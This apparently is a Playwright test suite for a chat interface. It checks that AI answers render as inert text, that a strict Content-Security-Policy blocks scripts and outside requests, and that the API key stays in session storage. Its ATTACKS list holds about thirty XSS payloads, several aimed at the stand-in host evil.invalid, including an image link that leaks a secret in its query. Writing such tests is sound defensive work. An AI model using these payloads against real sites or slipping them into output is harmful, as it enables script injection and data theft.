"""What a model writes stays text; the page asks nobody but its server."""
from pages import answer, ask, settled
from playwright.sync_api import expect
from scripted import say, think

ATTACKS = [
    "<img src=x onerror=\"window.hacked=1\">",
    "<script>window.hacked=1</script>",
    "<svg onload=window.hacked=1><a xlink:href=\"javascript:window.hacked=1\">x</a></svg>",
    "<iframe srcdoc=\"<script>parent.hacked=1</script>\"></iframe>",
    "<b onmouseover=window.hacked=1>bold</b>",
    "<details open ontoggle=window.hacked=1>",
    "<style>body{display:none}</style>",
    "<form action=\"http://evil.invalid/\"><input name=q autofocus onfocus=window.hacked=1></form>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.invalid/\">",
    "<base href=\"http://evil.invalid/\">",
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt&#58;window.hacked=1)",
    "[click](java&#x0A;script:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "[click](vbscript:x)",
    "<javascript:window.hacked=1>",
    "[ref]\n\n[ref]: javascript:window.hacked=1",
    "![picture](http://evil.invalid/leak?what=secret)",
    "![x](x\"onerror=\"window.hacked=1)",
    "```\"><img src=x onerror=window.hacked=1>\ncode\n```",
    "```html\n<img src=x onerror=window.hacked=1>\n```",
    "`<img src=x onerror=window.hacked=1>`",
    "$$\\href{javascript:window.hacked=1}{x}$$",
    "$$\\htmlStyle{background:url(http://evil.invalid/)}{x}\\includegraphics{http://evil.invalid/x.png}$$",
    "$\\url{javascript:window.hacked=1}$",
    "| <img src=x onerror=window.hacked=1> |\n|---|\n| <script>window.hacked=1</script> |",
    "# <img src=x onerror=window.hacked=1>",
    "&lt;img src=x onerror=window.hacked=1&gt; &#60;script&#62;window.hacked=1&#60;/script&#62;",
    "<b><i></b><img src=x onerror=window.hacked=1></i>",
]
FORBIDDEN = "img, script, svg:not(.katex svg, button > svg.sign), iframe, style, form, input:not([type=checkbox]), meta, base, object, embed, [onerror], [onload], [onclick], [srcdoc]"


def test_attacks_in_an_answer_do_nothing(page, scripted):
    messages = page.locator("#messages")
    for attack in ATTACKS:
        scripted.scripts[:] = [(think(attack), say(attack))]
        page.locator("#new").click()
        ask(page, attack)
        settled(page)
        assert messages.locator(FORBIDDEN).count() == 0, attack
        for link in messages.locator("a").all():
            assert link.get_attribute("href").startswith(("http://", "https://", "mailto:")), attack
            assert link.get_attribute("rel") == "noopener noreferrer"
        for text in messages.locator(".block span[title]").all():
            text.click()
        assert page.evaluate("window.hacked") is None, attack
    for row in page.locator("#list .open").all():  # again, as they come from the history
        row.click()
        settled(page)
        assert messages.locator(FORBIDDEN).count() == 0
    page.wait_for_timeout(200)  # for what would load
    assert page.evaluate("window.hacked") is None


def test_attacks_split_over_pieces_do_nothing(page, scripted):
    scripted.scripts[:] = [tuple(say(c) for a in ATTACKS for c in a + "\n\n")]
    ask(page, "All of it")
    settled(page)
    page.wait_for_timeout(200)
    assert page.evaluate("window.hacked") is None
    assert page.locator("#messages").locator(FORBIDDEN).count() == 0


def test_the_policy_stops_what_gets_through(page, serve, fetch):
    _, headers, _ = fetch(serve + "/", {"Accept": "text/html"})
    policy = dict(d.strip().split(" ", 1) for d in headers["Content-Security-Policy"].split(";"))
    assert policy["default-src"] == "'none'" and policy["script-src"] == "'self'" and policy["connect-src"] == "'self'"
    assert "unsafe" not in headers["Content-Security-Policy"]
    tried = page.evaluate("""async () => {
        const result = {};
        const attempt = async (name, fn) => { try { result[name] = await fn(); } catch (e) { result[name] = e.name; } };
        await attempt("html", () => { document.body.insertAdjacentHTML("beforeend", "<i>x</i>"); return "made"; });
        await attempt("inner", () => { document.createElement("div").innerHTML = "<i>x</i>"; return "made"; });
        // not in this call itself, in which the tester's tool may evaluate
        await attempt("eval", () => new Promise((done, fail) => setTimeout(() => { try { done(new Function("return 'ran'")()); } catch (e) { fail(e); } })));
        await attempt("script", () => { const s = document.createElement("script"); s.textContent = "window.hacked = 1"; document.body.append(s); return "made"; });
        await attempt("handler", () => { document.createElement("p").setAttribute("onclick", "window.hacked = 1"); return "made"; });
        return result;
    }""")
    assert tried == {"html": "TypeError", "inner": "TypeError", "eval": "EvalError", "script": "TypeError", "handler": "TypeError"}
    assert page.evaluate("window.hacked") is None


def test_nothing_outside_can_be_reached(page, scripted):
    blocked = page.evaluate("""() => new Promise(resolve => {
        document.addEventListener("securitypolicyviolation", e => resolve(e.effectiveDirective));
        fetch("http://127.0.0.1:9/").catch(() => {});
    })""")
    assert blocked == "connect-src"


def test_the_key_is_kept_for_the_tab_only(open_page, scripted):
    scripted.key = "secret-1"
    page = open_page(scripted.url)
    dialog = page.locator("#key-dialog")
    expect(dialog).to_be_visible()
    page.get_by_label("Key", exact=True).fill("secret-1")
    page.keyboard.press("Enter")
    expect(dialog).to_be_hidden()
    expect(page.locator("#state")).to_have_class("state ok")
    ask(page, "Let me in")
    settled(page)
    assert scripted.headers[0]["Authorization"] == "Bearer secret-1"
    assert "secret-1" not in page.evaluate("JSON.stringify(localStorage)")
    assert "secret-1" in page.evaluate("JSON.stringify(sessionStorage)")
    assert "secret-1" not in page.url
    page.reload()
    settled(page)
    expect(dialog).to_be_hidden()
    scripted.key = "secret-2"  # it was changed
    ask(page, "Still?")
    expect(dialog).to_be_visible()
    page.get_by_label("Key", exact=True).fill("secret-2")
    page.locator("#key-dialog button.main").click()
    settled(page)
    expect(answer(page).locator(".body")).to_have_text("hello")
    expect(answer(page).locator(".note")).to_be_hidden()
